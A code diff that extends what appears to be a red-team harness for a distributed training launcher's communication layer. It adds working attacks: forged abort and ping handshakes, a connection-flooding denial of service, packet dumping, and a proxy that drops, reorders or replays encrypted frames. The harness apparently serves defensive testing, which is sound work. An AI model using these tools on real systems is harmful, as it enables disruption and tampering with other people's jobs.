@@ -116,6 +116,8 @@ def flood(addr, key, value, seconds=4.0):
         _spin.until = spin_until
         try:
             with connect(addr) as s:
+                if delay == 0:
+                    say("INFO connected to %s:%d" % addr)
                 end = time.time() + seconds
                 while time.time() < end:
                     s.sendall(burst)
@@ -151,6 +153,8 @@ class Campaign:
             if first is not None and time.time() - first > a.duration:
                 break
             for addr in sorted(tcp_sockets(a.uid) - self.seen):
+                if addr[1] in a.skip_port:  # e.g. torch's own TCPStore, which nobody can guard
+                    continue
                 self.seen.add(addr)
                 first = first or time.time()
                 t = threading.Thread(target=self._rounds, args=(fn, addr, rounds, gap), daemon=True)
@@ -194,6 +198,7 @@ def finish(args):
 def cmd_store_read(args):
     def attempt(addr):
         with connect(addr, timeout=3) as s:
+            say("INFO connected to %s:%d" % addr)
             for key in ("saker/rank/0", "saker/rank/1", "saker/session"):
                 value = store_get(s, key)
                 if RANK_ENTRY.match(value) or SESSION.match(value):
@@ -437,6 +442,123 @@ def cmd_read_files(args):
                     say("INFO denied %s: %s" % (path, e.strerror))
 
 
+def new_hello(kind, client, server, channel, key_id=b"\0" * 8):
+    """Today's 64-byte Hello (launcher/comm/auth.cpp, encode_hello): magic "SKA1",
+    version 1, kind (1 store, 2 link, 3 abort, 4 ping), client, server, channel, key id,
+    client nonce. Without the key nothing past it can be answered."""
+    return (struct.pack("<IBB2xiii4x", 0x31414B53, 1, kind, client, server, channel) + key_id[:8].ljust(8, b"\0")
+            + os.urandom(32))
+
+
+def key_ids(flows):
+    """Key ids seen in captured Hellos (public by design: an HMAC of a fixed label)."""
+    ids = set()
+    for data in flows:
+        if len(data) >= 32 and data[:4] == struct.pack("<I", 0x31414B53):
+            ids.add(data[24:32])
+    return sorted(ids) or [b"\0" * 8]
+
+
+def cmd_spoof(args):
+    """Spoofed liveness pings and abort notices, in the old format (a bare greeting) and
+    today's (a Hello, then a made-up Finish, then the notice): a rank that answers a ping
+    (the 1-byte pong) or acknowledges a Finish has believed the attacker."""
+    ids = key_ids([bytes.fromhex(x) for x in json.load(open(args.flows))]) if args.flows else [b"\0" * 8]
+    text = args.text.encode()
+
+    def attempt(addr):
+        for key_id in ids:
+            for client in range(3):
+                for server in range(3):
+                    for kind in (3, 4):  # today's abort, ping
+                        with connect(addr) as s:
+                            s.settimeout(1.0)
+                            s.sendall(new_hello(kind, client, server, 0, key_id))
+                            try:
+                                reply = recv_exact(s, 68)
+                                s.sendall(os.urandom(32))
+                                if kind == 3:
+                                    s.sendall(struct.pack("<I", len(text)) + text)
+                                more = s.recv(16)
+                            except (OSError, ConnectionError):
+                                continue
+                            if more:
+                                say("FACT spoof-believed %s:%d answered a forged %s claiming rank %d to rank %d: %r"
+                                    % (addr[0], addr[1], "abort" if kind == 3 else "ping", client, server, more[:8]))
+        for sender in range(3):  # the old format: ping (3) gets a pong, abort (2) carries text
+            with connect(addr) as s:
+                s.settimeout(1.0)
+                s.sendall(hello(KIND_PING, sender, 0))
+                try:
+                    pong = s.recv(1)
+                except OSError:
+                    pong = b""
+                if pong == b"\x01":
+                    say("FACT spoof-believed %s:%d answered an old-format ping from 'rank %d'" % (addr[0], addr[1], sender))
+            with connect(addr) as s:
+                s.sendall(hello(KIND_ABORT, sender, 0, text))
+
+    Campaign(args).run(attempt, rounds=3, gap=0.3)
+    finish(args)
+
+
+def cmd_dos(args):
+    """Denial of service by silent connections: COUNT connections to every listener of
+    uid (and to --port, raced), opened as fast as the kernel takes them and never
+    speaking; each one the victim closes is opened again at once, until STOP."""
+    import resource
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    stop_at = time.time() + args.deadline
+    held = {}
+    lock = threading.Lock()
+
+    def open_many(addr, n):
+        out = []
+        for _ in range(n):
+            s = socket.socket()
+            s.setblocking(False)
+            err = s.connect_ex(addr)
+            if err not in (0, 115):  # EINPROGRESS
+                s.close()
+                break
+            out.append(s)
+        return out
+
+    def hold(addr):
+        count = args.port_count if args.port and addr == (args.host, args.port) else args.count
+        socks = open_many(addr, count)
+        most = len(socks)
+        while time.time() < stop_at and not os.path.exists(args.stop):
+            time.sleep(0.1)
+            alive = []
+            for s in socks:  # closed by the victim (or never accepted): open it again
+                try:
+                    gone = s.recv(1, socket.MSG_PEEK) == b""
+                except BlockingIOError:
+                    gone = False
+                except OSError as e:
+                    gone = e.errno != 107  # ENOTCONN: still connecting
+                if gone:
+                    s.close()
+                else:
+                    alive.append(s)
+            socks = alive + open_many(addr, count - len(alive))
+            most = max(most, len(socks))
+            with lock:
+                held[addr] = most
+        for s in socks:
+            s.close()
+
+    say("INFO holding %d silent connection(s) on each listener, %d on port %d" % (args.count, args.port_count, args.port))
+    Campaign(args).run(hold)
+    for addr, n in sorted(held.items()):
+        say("INFO held up to %d silent connection(s) on %s:%d" % (n, addr[0], addr[1]))
+    if not held:
+        say("INFO attack phase over: 0 listener(s) held")
+    finish(args)
+
+
 # ---- the trusted runner (root): capture and tamper on the wire ----------------------------
 
 
@@ -451,6 +573,7 @@ def cmd_sniff(args):
     tails, firsts = {}, {}
     listeners, rescan = set(), 0.0
     hits = packets = payload_bytes = 0
+    dump = open(args.out + ".dump", "wb") if args.dump_port else None
     open(args.out + ".ready", "w").close()
     deadline = time.time() + args.deadline
     while not os.path.exists(args.stop) and time.time() < deadline:
@@ -477,6 +600,8 @@ def cmd_sniff(args):
             continue
         packets += 1
         payload_bytes += len(data)
+        if args.dump_port and args.dump_port in (sport, dport):
+            dump.write(data)
         flow = (ip[12:16], sport, ip[16:20], dport)
         joined = tails.get(flow, b"") + data
         if pattern in joined:
@@ -489,6 +614,8 @@ def cmd_sniff(args):
     received, dropped = struct.unpack("II", sock.getsockopt(263, 6, 8))  # SOL_PACKET, PACKET_STATISTICS
     say("INFO captured %d TCP payload packet(s), %d byte(s); the kernel dropped %d of the last %d frames" %
         (packets, payload_bytes, dropped, received))
+    if dump:
+        dump.close()
     if hits:
         say("FACT pattern-seen the known tensor pattern appeared in %d packet(s)" % hits)
     if args.flows:
@@ -534,6 +661,58 @@ def cmd_flip_proxy(args):
             except OSError:
                 pass
 
+    def frames(src, dst, every):
+        """The client's stream as sealed frames (launcher/comm/aead.hpp: u32 length,
+        ciphertext, 16-byte tag) after the 96 handshake bytes (Hello, Finish): passed on
+        whole, except the first frame that starts past EVERY bytes, which is dropped,
+        swapped with the next one, or sent twice (--mode)."""
+        buf, seen, done, held = b"", 0, False, None
+        try:
+            while seen < 96:  # Hello, then (after the server's Reply) Finish: passed on as they come
+                chunk = src.recv(96 - seen)
+                if not chunk:
+                    raise ConnectionError("closed")
+                dst.sendall(chunk)
+                seen += len(chunk)
+            while True:
+                while len(buf) < 4:
+                    chunk = src.recv(1 << 20)
+                    if not chunk:
+                        raise ConnectionError("closed")
+                    buf += chunk
+                (n,) = struct.unpack("<I", buf[:4])
+                if n == 0 or n > (16 << 20):  # not a sealed stream (transit auth): relay as is
+                    dst.sendall(buf)
+                    return pump(src, dst, 0)
+                while len(buf) < 4 + n + 16:
+                    chunk = src.recv(1 << 20)
+                    if not chunk:
+                        raise ConnectionError("closed")
+                    buf += chunk
+                frame, buf = buf[: 4 + n + 16], buf[4 + n + 16 :]
+                seen += len(frame)
+                if done or seen < every:
+                    dst.sendall(frame)
+                    continue
+                if args.mode == "reorder" and held is None:
+                    held = frame  # sent after the next one
+                    continue
+                done = True
+                with lock:
+                    flips[0] += 1
+                if args.mode == "reorder":
+                    dst.sendall(frame + held)
+                elif args.mode == "replay":
+                    dst.sendall(frame + frame)
+                # drop: nothing
+        except (OSError, ConnectionError):
+            pass
+        for s in (src, dst):
+            try:
+                s.shutdown(socket.SHUT_RDWR)
+            except OSError:
+                pass
+
     def serve(lsock, port):
         while True:
             c, _ = lsock.accept()
@@ -543,7 +722,8 @@ def cmd_flip_proxy(args):
             except OSError:
                 c.close()
                 continue
-            threading.Thread(target=pump, args=(c, u, args.every), daemon=True).start()
+            tamper = pump if args.mode == "flip" else frames
+            threading.Thread(target=tamper, args=(c, u, args.every), daemon=True).start()
             threading.Thread(target=pump, args=(u, c, 0), daemon=True).start()
 
     open(args.out + ".ready", "w").close()
@@ -559,9 +739,14 @@ def cmd_flip_proxy(args):
             bound[port] = ls
             threading.Thread(target=serve, args=(ls, port), daemon=True).start()
         time.sleep(0.002)
-    say("INFO relayed %d listener(s); flipped %d byte(s)" % (len(bound), flips[0]))
-    if flips[0]:
-        say("FACT flipped %d byte(s) of the client's streams" % flips[0])
+    if args.mode == "flip":
+        say("INFO relayed %d listener(s); flipped %d byte(s)" % (len(bound), flips[0]))
+        if flips[0]:
+            say("FACT flipped %d byte(s) of the client's streams" % flips[0])
+    else:
+        say("INFO relayed %d listener(s); %s %d frame(s)" % (len(bound), args.mode, flips[0]))
+        if flips[0]:
+            say("FACT tampered %s %d frame(s) of the client's streams" % (args.mode, flips[0]))
 
 
 def cmd_kill_on_shm(args):
@@ -648,6 +833,8 @@ def main():
         q.add_argument("--deadline", type=float, default=60.0)
         q.add_argument("--port", type=int, default=0, help="the store's port, when known in advance")
         q.add_argument("--host", default="127.0.0.1", help="where that port is (default: this machine)")
+        q.add_argument("--skip-port", type=int, action="append", default=[], help="leave this port alone")
+        q.add_argument("--dump-port", type=int, default=0, help="sniff: write every payload to or from this port")
         for k, v in extra.items():
             q.add_argument("--" + k.replace("_", "-"), dest=k, **v)
         q.set_defaults(fn=fn)
@@ -663,7 +850,10 @@ def main():
     q = campaign("squat", cmd_squat)
     q = campaign("sniff", cmd_sniff, iface=dict(default="lo"), pattern=dict(required=True), flows=dict(default=""))
     q = campaign("flip-proxy", cmd_flip_proxy, pid=dict(type=int, required=True), listen_ip=dict(required=True),
-                 target_ip=dict(required=True), every=dict(type=int, default=4 << 20))
+                 target_ip=dict(required=True), every=dict(type=int, default=4 << 20),
+                 mode=dict(choices=("flip", "drop", "reorder", "replay"), default="flip"))
+    campaign("spoof", cmd_spoof, text=dict(required=True), flows=dict(default=""))
+    campaign("dos", cmd_dos, count=dict(type=int, default=1500), port_count=dict(type=int, default=5000))
     q = sub.add_parser("kill-on-shm")
     q.add_argument("--uid", type=int, required=True)
     q.add_argument("--rank", type=int, default=0)
